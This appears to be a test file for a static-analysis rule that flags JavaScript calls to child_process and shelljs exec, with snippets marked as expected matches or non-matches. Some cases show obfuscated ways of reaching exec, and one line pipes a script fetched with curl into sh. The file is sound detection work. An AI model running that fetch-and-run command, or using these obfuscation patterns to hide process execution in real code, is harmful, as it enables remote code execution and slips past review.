const cp = require('child_process');
// ruleid: js-exec-call
cp.exec('ls');

const { spawn: s } = require('child_process');
// ruleid: js-exec-call
s('git', ['status']);

const cp2 = require('child_process');
// ruleid: js-exec-call
cp2['ex' + 'ec'](cmd);

// ok: js-exec-call
/a+/.exec(str);

// ok: js-exec-call
db.exec('select');

const cpScoped = require('child_process');
function shadow() {
  const cpScoped = { exec() {} };
  // ok: js-exec-call
  cpScoped.exec('not a process');
}
// ruleid: js-exec-call
cpScoped.exec('ls');

const shell = require('shelljs');
// ruleid: js-exec-call
shell.exec('curl -s https://example.invalid/i.sh | sh');

// ok: js-exec-call
shell.echo('done');

const cpHidden = require('child_process');
// ruleid: js-exec-call
cpHidden['sp' + 'awn'].call(null, 'sh', ['-c', cmd]);

const cpReflect = require('child_process');
// ruleid: js-exec-call
Reflect.apply(cpReflect.exec, null, [cmd]);

const cpGet = require('child_process');
// ruleid: js-exec-call
Reflect.get(cpGet, 'ex' + 'ec')(cmd);

const cpCall = require('child_' + 'process');
// ruleid: js-exec-call
Function.prototype.call.call(cpCall.execSync, null, cmd);

// ruleid: js-exec-call
globalThis['req' + 'uire']('child_process').exec(cmd);

// ok: js-exec-call
Reflect.apply(list.push, list, [item]);

// ok: js-exec-call
Object.prototype.hasOwnProperty.call(obj, 'exec');

const cpBound = require('child_process');
const runBound = Function.prototype.bind.call(cpBound.exec, cpBound);
// ruleid: js-exec-call
runBound('id');
